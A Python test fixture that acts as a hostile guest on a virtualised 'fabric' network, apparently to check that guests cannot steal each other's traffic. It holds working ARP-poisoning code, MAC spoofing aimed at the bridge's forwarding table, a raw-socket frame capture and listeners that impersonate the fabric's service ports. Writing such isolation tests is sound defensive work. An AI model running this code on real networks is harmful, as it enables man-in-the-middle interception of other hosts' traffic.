"""A hostile guest on the fabric network, for tests/test_fabric_network.py.

Run inside a machine's network namespace (`ip netns exec fpXXXX-m-A python3 this.py
JSON`), it does what root in a guest can do to steal another machine's traffic:

- ARP poisoning, every 0.1 s: gratuitous ARP claiming the fabric address and the
  victim's address with the attacker's MAC, unicast ARP replies to the victim ("the
  fabric is at my MAC") and to the fabric ("the victim is at my MAC"), and frames whose
  source MAC is the victim's or the fabric's (to move them in the bridge's forwarding
  table onto the attacker's port);
- a listener on the fabric's wire and host ports (the attacker has added the fabric
  address to its eth0), noting who connects: a connection from the victim is a victim
  agent that would read a forged goal state from it (the attacker's own agent now
  reaches it too, from the fabric address, over lo);
- a capture of every frame arriving on eth0.

It runs until its stdin closes, then prints a JSON report: the peers that connected
(address:port) and every captured frame in hex.
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import threading
import time
from typing import Any

ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
BROADCAST = b"\xff" * 6


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def arp_frame(eth_src: bytes, eth_dst: bytes, op: int, sha: bytes, spa: str,
              tha: bytes, tpa: str) -> bytes:
    """An Ethernet frame carrying an IPv4-over-Ethernet ARP packet (op 1 request, 2 reply)."""
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sha, socket.inet_aton(spa),
                      tha, socket.inet_aton(tpa))
    return eth_dst + eth_src + struct.pack("!H", ETH_P_ARP) + arp


def poison_frames(cfg: dict[str, str]) -> list[bytes]:
    me, victim, fabric = mac(cfg["my_mac"]), mac(cfg["victim_mac"]), mac(cfg["fabric_mac"])
    fab_ip, vic_ip = cfg["fabric_ip"], cfg["victim_ip"]
    zero = b"\0" * 6
    return [
        # Gratuitous ARP: "the fabric address is at my MAC", "the victim's is at my MAC".
        arp_frame(me, BROADCAST, 1, me, fab_ip, zero, fab_ip),
        arp_frame(me, BROADCAST, 2, me, fab_ip, BROADCAST, fab_ip),
        arp_frame(me, BROADCAST, 1, me, vic_ip, zero, vic_ip),
        # Aimed replies to each side.
        arp_frame(me, victim, 2, me, fab_ip, victim, vic_ip),
        arp_frame(me, fabric, 2, me, vic_ip, fabric, fab_ip),
        # Someone else's source MAC, so the bridge learns it on the attacker's port.
        arp_frame(victim, fabric, 2, victim, vic_ip, fabric, fab_ip),
        arp_frame(fabric, victim, 2, fabric, fab_ip, victim, vic_ip),
        arp_frame(fabric, BROADCAST, 1, fabric, fab_ip, zero, vic_ip),
    ]


def main() -> None:
    cfg: dict[str, Any] = json.loads(sys.argv[1])
    stop = threading.Event()
    frames: list[str] = []
    peers: list[str] = []

    cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    cap.bind((cfg["iface"], 0))
    cap.settimeout(0.2)

    def capture() -> None:
        while not stop.is_set():
            try:
                frame, addr = cap.recvfrom(65535)
            except TimeoutError:
                continue
            if addr[2] != socket.PACKET_OUTGOING:  # only what arrives
                frames.append(frame.hex())

    def send() -> None:
        tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        tx.bind((cfg["iface"], 0))
        batch = poison_frames(cfg)
        while not stop.is_set():
            for f in batch:
                tx.send(f)
            time.sleep(0.1)

    listeners = []
    for port in cfg["ports"]:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((cfg["fabric_ip"], port))
        s.listen(16)
        listeners.append((port, s))

    def listen() -> None:
        while not stop.is_set():
            ready, _, _ = select.select([s for _, s in listeners], [], [], 0.2)
            for port, s in listeners:
                if s in ready:
                    conn, peer = s.accept()
                    peers.append(f"{peer[0]}:{port}")
                    conn.close()

    threads = [threading.Thread(target=t, daemon=True) for t in (capture, send, listen)]
    for t in threads:
        t.start()
    print("ready", flush=True)
    sys.stdin.read()  # the test closes stdin to stop us
    stop.set()
    for t in threads:
        t.join(2)
    print(json.dumps({"peers": peers, "frames": frames}), flush=True)


if __name__ == "__main__":
    main()
